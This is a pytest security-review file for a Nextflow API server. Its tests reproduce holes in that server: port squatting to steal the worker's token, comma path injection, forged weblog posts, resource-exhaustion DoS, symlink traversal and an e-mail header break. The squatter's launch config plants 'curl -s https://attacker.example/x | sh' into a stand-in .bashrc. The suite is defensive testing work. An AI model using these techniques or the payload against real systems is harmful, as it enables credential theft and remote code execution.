"""A fresh security review (H11) of nfapi after issue 11: attacks by another local user of the node,
by a holder of the read-only token, and by a holder of one run's weblog secret.

Tests named `test_hole_...` reproduce a hole and FAIL on the code they were written against; the
others pass and cover a promise no other test checks. /work/notes/wt-attack-report.md has the
findings, their severity and the fix each one needs.
"""

import base64
import json
import os
import select
import socket
import sqlite3
import stat
import time

import pytest

from conftest import (ServerProcess, WorkerProcess, claim_and_confirm, processes_with_marker, read_request,
                      ready_workflow, report_finished, serve_connections, wait_final, wait_for, write_config)

READER = "reader-token-for-the-review"


def run_secret(server, run_id):
    """The run's weblog secret: what a local user who got hold of it (the premise) would know."""
    with sqlite3.connect(os.path.join(server.data, "nfapi.sqlite3")) as db:
        return db.execute("SELECT secret FROM runs WHERE id = ?", (run_id,)).fetchone()[0]


def weblog_post(api, wid, run_id, secret, body):
    auth = base64.b64encode(b"nfapi:" + secret.encode()).decode()
    return api.request("POST", "/api/workflows/%d/nextflow-log?run=%d" % (wid, run_id), body=body, token=False,
                       headers={"Authorization": "Basic " + auth})


def raw_request(port, head):
    """A connection that has sent `head` (bytes) and reads nothing yet."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    sock.sendall(head)
    return sock


def read_answer(sock, timeout=10):
    """Everything the server sends until it closes the connection (or `timeout`)."""
    sock.settimeout(timeout)
    data = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    except socket.timeout:
        pass
    return data


# ==== 1. Whoever holds the server's port gets the token and runs what it likes as the user ====

class Squatter:
    """Another local user's program bound to the port nfapi listened on, once nfapi is not there
    (a restart, an upgrade, a crash; or a worker started before its server). It records what the
    worker sends and answers a claim with a launch of its own."""

    def __init__(self, port, launch):
        self.launch = launch
        self.requests = []  # (request line, headers)
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        deadline = time.monotonic() + 10
        while True:  # the way a squatter does it: bind in a loop until the port is free
            try:
                self.sock.bind(("127.0.0.1", port))
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.01)
        self.sock.listen(16)
        self.given = False
        serve_connections(self.sock, self.answer)

    def answer(self, conn):
        with conn:
            conn.settimeout(10)
            request = read_request(conn)
            if request is None:
                return
            line, headers, _ = request
            self.requests.append((line, {k.lower(): v for k, v in headers.items()}))
            path = line.split()[1]
            if path.endswith("/api/worker/claim"):
                answer, self.given = {"run": None if self.given else self.launch}, True
            elif path.endswith("/api/worker/heartbeat"):
                answer = {"cancel": [], "gone": []}
            else:
                answer = {}
            out = json.dumps(answer).encode()
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n"
                         b"Content-Length: %d\r\n\r\n%s" % (len(out), out))

    def claims(self):
        return sum(line.split()[1].endswith("/api/worker/claim") for line, _ in self.requests)

    def tokens_seen(self):
        return [headers.get("authorization", "") for _, headers in self.requests]

    def close(self):
        self.sock.close()


def test_hole_the_worker_gives_its_token_to_and_obeys_whoever_holds_the_servers_port(tmp_path):
    """The worker sends `Authorization: Bearer <API token>` to whatever listens at --server, and runs
    the launch it is answered with: argv, cwd and the paths and contents of the files it writes are
    all the answer's. Another local user who binds the port while nfapi is away gets the API token
    and writes any file as the user (here ~/.bashrc's stand-in), and picks nextflow's argv and -c
    config (Groovy: code) too."""
    server = ServerProcess(tmp_path, config=write_config(tmp_path, lease_seconds=2)).start()
    worker = WorkerProcess(server, tmp_path).start()
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    squatter = None
    try:
        api = server.client()
        wait_for(lambda: api.get("/api/workers").json()["workers"], message="the worker's first claim")
        token, port = server.token, server.port
        server.stop()  # an ordinary restart begins...
        launch = {"run_id": 1, "workflow_id": 1, "argv": ["run", str(tmp_path / "anything.nf"), "-name", "squat"],
                  "cwd": str(tmp_path / "squat-cwd"), "params": {}, "params_file": str(tmp_path / "squat-params.json"),
                  "run_dir": str(tmp_path / "squat-run"), "config_file": str(victim),
                  "config": "curl -s https://attacker.example/x | sh  # written by another local user\n",
                  "config_url_token": "", "console_log": str(tmp_path / "squat-console.log"),
                  "claim_secret": "squatted", "claim_confirm_seconds": 10}
        squatter = Squatter(port, launch)  # ...and another user's program takes the port first
        deadline = time.monotonic() + 15
        # Until the worker has used the launch, or come back to claim: with its one slot, it took none.
        while time.monotonic() < deadline and not (victim.exists() and squatter.requests) \
                and squatter.claims() < 2:
            time.sleep(0.05)
        stolen = [t for t in squatter.tokens_seen() if token in t]
        written = victim.read_text() if victim.exists() else None
        assert not stolen and written is None, (
            "the worker sent the API token to a stranger on the port %d time(s) and wrote the stranger's text "
            "into %s: %r" % (len(stolen), victim, written))
    finally:
        worker.stop()
        if squatter:
            squatter.close()


# ==== 2. A `paths` value that names a file outside the workflow folder ====

def test_hole_a_comma_in_a_paths_value_hands_the_pipeline_a_file_outside_the_workflow_folder(tmp_path):
    """`paths` reach the pipeline as one text, the absolute paths joined by commas, which pipelines
    split on commas (examples/demo/main.nf: `params.extra_files.tokenize(',')`). A name with a comma
    in it is accepted, so the value "a,/etc/passwd" (a folder "a," holding etc/passwd, which makes
    the existence check pass) reaches the pipeline as <root>/a and /etc/passwd. In a multi-user front
    end this reads another workflow's files (/data/workflows/<other id>/...) into this one's results."""
    server = ServerProcess(tmp_path).start()
    try:
        api = server.client()
        wid = ready_workflow(api)
        assert api.post("/api/workflows/%d/create-folder" % wid, {"path": "a,/etc"}).status == 200
        assert api.upload(wid, "passwd", b"decoy", directory="a,/etc").status == 200
        resp = api.post("/api/workflows/%d/update" % wid, {"nextflow_arguments": {"extra_files": ["a,/etc/passwd"]}})
        if resp.status == 422:  # refused: nothing reaches the pipeline
            assert "comma" in resp.json()["errors"]["extra_files"][0]
            return
        command = api.get("/api/workflows/%d/command" % wid)
        assert command.status == 200, command
        root = os.path.join(server.data, "workflows", str(wid))
        seen_by_the_pipeline = command.json()["params"]["extra_files"].split(",")
        outside = [p for p in seen_by_the_pipeline if not p.startswith(root + "/")]
        assert not outside, "the pipeline is given %s, outside %s" % (outside, root)
    finally:
        server.stop()


# ==== 3. A weblog secret picks what a relaunch runs ====

def versions_config(tmp_path):
    path = tmp_path / "config.json"
    path.write_text(json.dumps({"lease_seconds": 2, "nextflow_workflows": {"remote": {
        "pipeline": "org/repo", "revision": "v1", "args": {"dynamic": {"input": {"type": "path"}}}}}}))
    return str(path)


def started(commit, version):
    return {"runName": "nfapi-run-1", "runId": "a46afc37-6d46-4bec-885d-01b13dabc8c1", "event": "started",
            "utcTime": "2025-01-20T12:05:00Z",
            "metadata": {"parameters": {}, "workflow": {"nextflow": {"version": version}, "commitId": commit}}}


def test_hole_a_weblog_secret_picks_the_commit_and_nextflow_version_a_relaunch_runs(tmp_path):
    """Issue 11: nothing that arrives over the weblog reaches argv. A relaunch puts the `commitId` of
    the run's `started` post after -r and its Nextflow version in NXF_VER. Those are well-formed
    (hex, a version), but whoever holds the run's secret chooses them: a forged `started` after
    Nextflow's own makes the relaunch run another commit of the pipeline (any commit in the repo,
    e.g. one before a fix) on another Nextflow (e.g. one before 23.10, which puts the next run's
    secret in its URL)."""
    server = ServerProcess(tmp_path, config=versions_config(tmp_path)).start()
    try:
        api = server.client()
        wid = api.create("remote")
        assert api.upload(wid, "in.txt", b"x").status == 200
        assert api.post("/api/workflows/%d/update" % wid, {"nextflow_workflow": "remote",
                                                            "nextflow_arguments": {"input": "in.txt"}}).status == 200
        assert api.post("/api/workflows/%d/schedule" % wid).status == 200
        launch = claim_and_confirm(api)
        secret = run_secret(server, launch["run_id"])
        ran = "4cdaa36bbf0e8e8d1d5c1d5f3f1c1e5f9a0b1c2d"
        assert weblog_post(api, wid, launch["run_id"], secret, started(ran, "24.10.4")).status == 200  # Nextflow
        forged = "0000000000000000000000000000000000000bad"
        assert weblog_post(api, wid, launch["run_id"], secret, started(forged, "22.10.0")).status == 200  # attacker
        report_finished(api, launch)
        assert api.post("/api/workflows/%d/runs/%d/relaunch" % (wid, launch["run_id"])).status == 200
        again = claim_and_confirm(api)
        revision = again["argv"][again["argv"].index("-r") + 1]
        assert (revision, again["nextflow_version"]) == (ran, "24.10.4"), (
            "the relaunch runs commit %s on Nextflow %s, as a forged weblog post said" % (revision,
                                                                                          again["nextflow_version"]))
    finally:
        server.stop()


# ==== 4. What the read-only token can take away from everyone ====

@pytest.fixture
def shared(tmp_path, request):
    """A server with the read-only token READER; `@pytest.mark.stand(...)` settings apply."""
    marker = request.node.get_closest_marker("stand")
    config = write_config(tmp_path, lease_seconds=2, **(marker.kwargs if marker else {}))
    srv = ServerProcess(tmp_path, config=config, env={"NFAPI_READ_TOKEN": READER}).start()
    try:
        yield srv
    finally:
        srv.stop()


def reader_of(server):
    reader = server.client()
    reader.token = READER
    return reader


SOCKET_IO = "/socket.io/?EIO=4&transport=polling"


def test_hole_the_read_only_token_takes_every_socketio_session(shared):
    """A handshake is a GET, so the read-only token may open sessions; the server keeps at most 1000
    for everyone. 1000 GETs (20 a second keeps them, as each lasts pingInterval + pingTimeout) and
    the web UI's own handshake, with the full token, is 503 for as long as the reader likes."""
    reader, owner = reader_of(shared), shared.client()
    statuses = [reader.get(SOCKET_IO).status for _ in range(1000)]
    assert statuses == [200] * 500 + [503] * 500  # the read-only token's share: half
    resp = owner.get(SOCKET_IO)
    assert resp.status == 200, "the owner's Socket.IO handshake: %r" % resp


def pipelined(port, token, requests, batch=200):
    """Send raw HTTP requests on one connection, `batch` at a time before reading the answers;
    return their status codes."""
    statuses = []
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    buffered = b""
    try:
        for start in range(0, len(requests), batch):
            group = requests[start:start + batch]
            sock.sendall(b"".join(group))
            got = 0
            while got < len(group):
                head_end = buffered.find(b"\r\n\r\n")
                if head_end < 0:
                    chunk = sock.recv(1 << 16)
                    assert chunk, "the server closed the connection"
                    buffered += chunk
                    continue
                head = buffered[:head_end].decode("latin-1")
                length = int(next(line.split(":")[1] for line in head.split("\r\n")
                                  if line.lower().startswith("content-length:")))
                while len(buffered) < head_end + 4 + length:
                    buffered += sock.recv(1 << 16)
                statuses.append(int(head.split()[1]))
                buffered = buffered[head_end + 4 + length:]
                got += 1
    finally:
        sock.close()
    return statuses


def link_request(wid, token):
    body = json.dumps({"path": "a.txt"}).encode()
    return (b"POST /api/workflows/%d/download-link HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"
            b"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (wid, token.encode(), len(body), body))


def test_hole_the_read_only_token_uses_up_every_download_link(shared):
    """The read-only token may POST download-link; live links are capped at 10,000 for everyone.
    10,000 links (seconds of work) and for the next five minutes, renewable, nobody can download from
    the web page: the owner's own link request is 429."""
    owner = shared.client()
    wid = owner.create("shared")
    assert owner.upload(wid, "a.txt", b"a").status == 200
    statuses = pipelined(shared.port, READER, [link_request(wid, READER)] * 10000)
    assert statuses == [200] * 5000 + [429] * 5000, set(statuses)  # the read-only token's share: half
    resp = owner.post("/api/workflows/%d/download-link" % wid, {"path": "a.txt"})
    assert resp.status == 200, "the owner's download link: %r" % resp


@pytest.mark.stand(max_connections=24)
def test_hole_waiting_reads_hold_every_request_slot(shared):
    """Requests in progress share one pool of `max_connections` (512; 24 here) slots, and a reader's
    `?wait=60` holds one for a minute (a Socket.IO poll for pingInterval, a slow download for as long
    as it reads). The read-only token fills the pool and every other request, heartbeats and the
    worker's `finished` included, gets 503 for as long as it keeps doing so. (On main today a client
    without any token can do the same with idle connections: issue 11 finding 2, wt-net; that fix
    still gives an authenticated request a slot from the same pool.)"""
    owner = shared.client()
    wid = ready_workflow(owner)
    assert owner.post("/api/workflows/%d/schedule" % wid).status == 200  # queued: a wait waits
    owner.conn.close()
    head = (b"GET /api/workflows/%d?wait=60 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n"
            % (wid, READER.encode()))
    waiting = [raw_request(shared.port, head) for _ in range(24)]
    try:
        # The token's half of the slots waits; the other half is answered at once (once all are in).
        wait_for(lambda: len(select.select(waiting, [], [], 0)[0]) == 12, message="half the reads answered")
        started = time.monotonic()
        resp = shared.client().get("/api/workflows/count")
        beat = shared.client().post("/api/worker/heartbeat", {"runs": []})
        assert (resp.status, beat.status) == (200, 200) and time.monotonic() - started < 1, (
            "with 24 waiting reads: the owner's GET answered %d, a worker's heartbeat %d" % (resp.status, beat.status))
    finally:
        for sock in waiting:
            sock.close()


@pytest.mark.stand(max_connections=8)
def test_waiting_reads_hold_at_most_half_the_slots_whoever_sends_them(shared):
    """With the API token too: past max_connections / 2 waiting reads, a `?wait=` answers at once
    with the current state, and the other half stays for requests that must not wait."""
    owner = shared.client()
    wid = ready_workflow(owner)
    assert owner.post("/api/workflows/%d/schedule" % wid).status == 200  # queued: a wait waits
    owner.conn.close()
    # Once the owner's handler threads have ended, each waiting read is a thread more.
    wait_for(lambda: shared.handler_threads() == 0, message="the owner's handler threads to end")
    head = (b"GET /api/workflows/%d?wait=60 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n"
            % (wid, shared.token.encode()))
    waiting = [raw_request(shared.port, head) for _ in range(4)]
    try:
        wait_for(lambda: shared.handler_threads() == 4, message="the four reads to wait")
        fifth = raw_request(shared.port, head.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n"))
        answer = read_answer(fifth, timeout=5)
        fifth.close()
        assert answer.startswith(b"HTTP/1.1 200 ") and b'"status": "queued"' in answer, answer[:300]
    finally:
        for sock in waiting:
            sock.close()


# ==== 5. Logs and reports are opened by path: only the last name is not followed ====

def test_hole_logs_and_reports_follow_a_symlinked_launch_or_run_folder(tmp_path):
    """Issue 11 finding 3: the log endpoints must not follow a symlink. They open
    <data>/launch/<id>/.nextflow.log and <data>/runs/<id>/{console.log,report.html,trace.txt} with
    O_NOFOLLOW, which guards the last name only: when launch/<id> or runs/<id> is a symlink (the
    pipeline writes beside them, as in finding 3), the outside folder's files are served."""
    server = ServerProcess(tmp_path).start()
    try:
        api = server.client()
        wid = ready_workflow(api)
        assert api.post("/api/workflows/%d/schedule" % wid).status == 200
        launch = claim_and_confirm(api)  # running; nothing has made its folders yet
        outside = tmp_path / "outside"
        outside.mkdir()
        for name in (".nextflow.log", "console.log", "report.html", "trace.txt"):
            (outside / name).write_bytes(b"OUTSIDE " + name.encode())
        os.symlink(str(outside), launch["cwd"])
        os.symlink(str(outside), launch["run_dir"])
        served = {}
        for what, path in (("nextflow log", "/api/workflows/%d/log?file=nextflow" % wid),
                           ("console log", "/api/workflows/%d/log" % wid),
                           ("report", "/api/workflows/%d/runs/%d/report" % (wid, launch["run_id"])),
                           ("trace", "/api/workflows/%d/runs/%d/trace" % (wid, launch["run_id"]))):
            resp = api.get(path)
            if b"OUTSIDE" in resp.body:
                served[what] = resp.body.decode()
        assert not served, "served from outside the data folder through a symlinked folder: %s" % served
    finally:
        server.stop()


# ==== 6. A name with a Unicode line break stops the run's e-mail ====

def test_hole_a_line_separator_in_a_workflow_name_stops_the_runs_email(tmp_path):
    """one_line() takes out \\x00-\\x1f and \\x7f, but Python's e-mail headers also refuse \\x85, U+2028
    and U+2029 (str.splitlines breaks there): the Subject raises ValueError, every attempt fails with
    a traceback in the server's log and the e-mail is never sent. The same holds for the first line of
    a run's error message, which a forged `completed` post (a weblog secret) sets."""
    mailbox = tmp_path / "mailbox"
    sendmail = tmp_path / "sendmail"
    sendmail.write_text("#!/bin/sh\ncat >> '%s'\n" % mailbox)
    sendmail.chmod(0o755)
    (tmp_path / "main.nf").write_text("workflow { }\n")
    config = tmp_path / "config.json"
    config.write_text(json.dumps({"lease_seconds": 2, "notify": {
        "retry_after_seconds": [0.2], "email": {"sendmail": str(sendmail), "from": "nfapi@example.org",
                                                "to": ["team@example.org"]}},
        "nextflow_workflows": {"local": {"directory": str(tmp_path), "script": "main.nf"}}}))
    server = ServerProcess(tmp_path, config=str(config)).start()
    try:
        api = server.client()
        wid = api.create("nightly\u2028report")
        assert api.post("/api/workflows/%d/update" % wid, {"nextflow_workflow": "local"}).status == 200
        assert api.post("/api/workflows/%d/schedule" % wid).status == 200
        launch = claim_and_confirm(api)
        report_finished(api, launch)
        path = "/api/workflows/%d/runs/%d/notifications" % (wid, launch["run_id"])
        wait_for(lambda: all(n["status"] != "pending" for n in api.get(path).json()["notifications"]),
                 message="the e-mail's attempts")
        delivery = api.get(path).json()["notifications"][0]
        assert delivery["status"] == "sent" and mailbox.exists(), delivery
    finally:
        server.stop()


# ==== 7. What one run's weblog secret can still write ====

def test_hole_a_weblog_secret_grows_the_unpaged_processes_view_without_bound(tmp_path):
    """Issue 11 finding 5 bounded tasks (1,000,000 a run, texts cut at 4,096 characters, `tasks`
    paged) but not processes: each forged task may name a new process of 4 KiB, and
    GET .../processes answers every one of them, unpaged, with two spreads each (6 queries). 1,500
    posts (about 2 s) make a 6 MB answer; the task cap allows 1,000,000 of them (4 GB, built in memory,
    minutes of CPU per GET, and the web page polls it during a run). Each forged task also stores about
    50 KB (ten 4 KiB texts): 50 GB at the cap."""
    server = ServerProcess(tmp_path).start()
    try:
        api = server.client()
        wid = ready_workflow(api)
        assert api.post("/api/workflows/%d/schedule" % wid).status == 200
        launch = claim_and_confirm(api)
        secret, run_id = run_secret(server, launch["run_id"]), launch["run_id"]
        for task_id in range(1, 1501):
            trace = {"task_id": task_id, "status": "SUBMITTED", "process": ("%d" % task_id + "P" * 4096)[:4096]}
            assert weblog_post(api, wid, run_id, secret, {"event": "process_submitted", "trace": trace}).status == 200
        resp = api.get("/api/workflows/%d/runs/%d/processes" % (wid, run_id))
        count, paged = len(resp.json()["processes"]), "next_offset" in resp.json()
        bounded = count <= 1000 or paged
        assert bounded, "one answer of %d processes, %d bytes" % (count, len(resp.body))
        rest = api.get("/api/workflows/%d/runs/%d/processes?offset=%d" % (wid, run_id, resp.json()["next_offset"]))
        assert len(rest.json()["processes"]) == 500 and rest.json()["next_offset"] is None
    finally:
        server.stop()


# ==== 8. Still open on main: issue 11 finding 4 (in wt-net, not merged) ====

def test_hole_a_file_that_shrinks_during_a_tar_download_puts_a_500_into_the_200(tmp_path):
    """A file truncated while a folder streams as tar.gz (tarfile needs the size it announced; a
    pipeline or a re-upload does this in ordinary use): the server writes a whole `HTTP/1.1 500`
    answer into the body of the 200 and keeps the connection open."""
    server = ServerProcess(tmp_path).start()
    try:
        api = server.client()
        wid = api.create("big")
        folder = os.path.join(server.data, "workflows", str(wid), "out")
        os.mkdir(folder)
        big = os.path.join(folder, "big.bin")
        with open(big, "wb") as f:
            f.write(os.urandom(24 * 1024 * 1024))  # random: gzip cannot shrink it, the socket fills
        sock = raw_request(server.port, b"GET /api/workflows/%d/download?path=out&format=tar.gz HTTP/1.1\r\nHost: x\r\n"
                                        b"Authorization: Bearer %s\r\n\r\n" % (wid, server.token.encode()))
        first = b""
        while len(first) < 2 * 1024 * 1024:  # well into the file: its size was announced
            first += sock.recv(65536)
        assert first.startswith(b"HTTP/1.1 200"), first[:100]
        os.truncate(big, 1024 * 1024)
        rest = read_answer(sock, timeout=5)
        sock.close()
        assert b"HTTP/1.1 500" not in rest, "a second answer inside the first one's body"
    finally:
        server.stop()


# ==== Promises no other test covers ====

def secrets_in(data, secrets):
    return sorted(name for name, value in secrets.items() if value.encode() in data)


def test_no_answer_to_the_read_only_token_no_log_and_no_command_line_shows_a_secret(tmp_path):
    """A run with Nextflow 23.04 (the weblog secret is in its URL, so in .nextflow.log and the report's
    command line): no GET the read-only token may make, no process's command line while it runs, and
    neither the server's nor the worker's output carries the weblog secret (raw or as the Basic
    credentials), the claim secret or the API token."""
    config = write_config(tmp_path, lease_seconds=2)
    server = ServerProcess(tmp_path, config=config, env={"NFAPI_READ_TOKEN": READER}, quiet=False).start()
    worker = WorkerProcess(server, tmp_path, env={"NXF_VER": "23.04.0", "FAKE_NF_TASK_SECONDS": "0.5"}).start()
    try:
        api, reader = server.client(), reader_of(server)
        wid = ready_workflow(api)
        assert api.post("/api/workflows/%d/schedule" % wid).status == 200
        run_id = api.get("/api/workflows/%d" % wid).json()["workflow"]["run"]["id"]

        def known():
            with sqlite3.connect(os.path.join(server.data, "nfapi.sqlite3")) as db:
                return db.execute("SELECT secret, claim_secret FROM runs WHERE id = ? AND claim_secret IS NOT NULL",
                                  (run_id,)).fetchone()
        secret, claim_secret = wait_for(known, message="the claim")
        secrets = {"weblog secret": secret, "claim secret": claim_secret, "API token": server.token,
                   "Basic credentials": base64.b64encode(b"nfapi:" + secret.encode()).decode()}
        command_lines = b""
        wait_for(lambda: processes_with_marker(worker.marker), message="nextflow to start")
        for pid in processes_with_marker(worker.marker) + [server.proc.pid, worker.proc.pid]:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                command_lines += f.read()
        assert wait_final(api, wid, timeout=60)["status"] == "succeeded"

        tasks = reader.get("/api/workflows/%d/runs/%d/tasks" % (wid, run_id)).json()["tasks"]
        assert tasks
        run_paths = ["", "/tasks", "/notifications", "/processes", "/report", "/timeline", "/trace"] + \
            ["/tasks/%d" % tasks[0]["task_id"]] + ["/tasks/%d/files/%s" % (tasks[0]["task_id"], name) for name in (
                ".command.sh", ".command.err", ".command.out", ".command.log", ".command.run", ".command.trace",
                ".exitcode")]
        paths = ["/api/workflows", "/api/workflows/count", "/api/workflows/%d" % wid, "/api/workflows/%d/files" % wid,
                 "/api/workflows/%d/command" % wid, "/api/workflows/%d/runs" % wid,
                 "/api/workflows/%d/log" % wid, "/api/workflows/%d/log?file=nextflow" % wid,
                 "/api/workflows/%d/download?format=tar.gz" % wid, "/api/nextflow-workflows",
                 "/api/worker/check", "/api/workers", "/api/openapi.json", SOCKET_IO, "/", "/api/whoami"] + \
            ["/api/workflows/%d/runs/%d%s" % (wid, run_id, p) for p in run_paths]
        answers, found = {}, {}
        for path in paths:
            resp = reader.get(path)
            answers[path] = resp.status
            leaked = secrets_in(resp.body + str(resp.headers).encode(), secrets)
            if leaked:
                found[path] = leaked
        link = reader.post("/api/workflows/%d/download-link" % wid, {"path": "", "format": "zip"})
        found_in_link = secrets_in(link.body + reader.get(link.json()["url"], token=False).body, secrets)
        assert answers["/api/workflows/%d/log?file=nextflow" % wid] == 200
        with open(os.path.join(server.data, "runs", str(run_id), "nextflow.log"), "rb") as f:
            assert secret.encode() in f.read(), "the sweep means something: the secret is in the log on disk"
        assert answers["/api/workflows/%d/runs/%d/report" % (wid, run_id)] == 200
        assert not found and not found_in_link, (found, found_in_link)
        assert not secrets_in(command_lines, secrets), secrets_in(command_lines, secrets)
        worker.stop()
        server.stop()
        with open(worker.log_path, "rb") as f:
            outputs = f.read() + server.output().encode("latin-1")
        assert not secrets_in(outputs, secrets), secrets_in(outputs, secrets)
    finally:
        worker.stop()
        server.stop()


def test_every_file_in_the_data_folder_is_private_after_a_run(tmp_path):
    """The data folder is 0700 and its files 0600 (SECURITY.md): checked for everything in it after a
    run, uploads, folders, a download link and a deleted path, not only for the files test_security
    and test_ownership look at."""
    server = ServerProcess(tmp_path, config=write_config(tmp_path, lease_seconds=2)).start()
    worker = WorkerProcess(server, tmp_path, env={"FAKE_NF_PUBLISH": "1"}).start()
    try:
        api = server.client()
        wid = ready_workflow(api)
        assert api.post("/api/workflows/%d/create-folder" % wid, {"path": "x/y"}).status == 200
        assert api.post("/api/workflows/%d/delete-path" % wid, {"path": "x/y"}).status == 200
        assert api.post("/api/workflows/%d/schedule" % wid).status == 200
        assert wait_final(api, wid, timeout=60)["status"] == "succeeded"
        assert api.post("/api/workflows/%d/download-link" % wid, {"path": ""}).status == 200
        loose = []
        for parent, folders, files in os.walk(server.data):
            for name in folders + files:
                mode = stat.S_IMODE(os.lstat(os.path.join(parent, name)).st_mode)
                if mode & 0o077:
                    loose.append((os.path.relpath(os.path.join(parent, name), server.data), oct(mode)))
        assert not loose, loose
    finally:
        worker.stop()
        server.stop()


def test_the_read_only_token_changes_nothing_through_any_post(shared):
    """Every POST route but download-link (which changes nothing) refuses the read-only token with 403,
    Socket.IO's included (a session the owner opened: joining a room is a POST), and the weblog takes
    a run secret only. Route by route from nfapi.ROUTES, so a new POST route cannot forget it."""
    import nfapi
    owner, reader = shared.client(), reader_of(shared)
    wid = ready_workflow(owner)
    sid = json.loads(owner.get(SOCKET_IO).body[1:])["sid"]
    body = {"name": "x", "path": "ref.fa", "run_id": 1, "runs": [], "worker": "r", "wait": 0, "exit_code": 0}
    posts = [(pattern, handler) for method, pattern, handler in nfapi.ROUTES if method == "POST"]
    assert len(posts) >= 14
    for pattern, handler in posts:
        path = pattern.replace("<int:id>", str(wid)).replace("<int:run_id>", "1")
        if path == "/socket.io/":
            path = SOCKET_IO + "&sid=" + sid
        if handler.__name__ == "workflow_download_link":
            assert reader.post(path, {"path": "ref.fa"}).status == 200
            continue
        resp = reader.post(path, body)
        if handler.__name__ == "workflow_nextflow_log":
            assert resp.status == 401, resp
        else:
            assert resp.status == 403 and resp.json()["errors"]["token"] == ["this token is read-only"], (path, resp)
    workflow = owner.get("/api/workflows/%d" % wid).json()["workflow"]
    assert workflow["status"] is None and workflow["name"] == "wf"
    assert owner.get("/api/workflows/count").json() == {"count": 1}
    assert sorted(owner.get("/api/workflows/%d/files" % wid).json()["files"]) == ["ref.fa"]
